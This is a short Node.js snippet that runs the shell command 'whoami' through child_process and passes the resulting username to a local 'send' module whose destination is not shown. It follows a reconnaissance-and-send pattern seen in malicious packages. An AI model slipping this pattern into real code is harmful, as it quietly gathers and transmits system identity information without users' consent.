const sender = require('./send');
const cp = require('child_process');
const out = cp.execSync('whoami').toString();
sender.send(out);
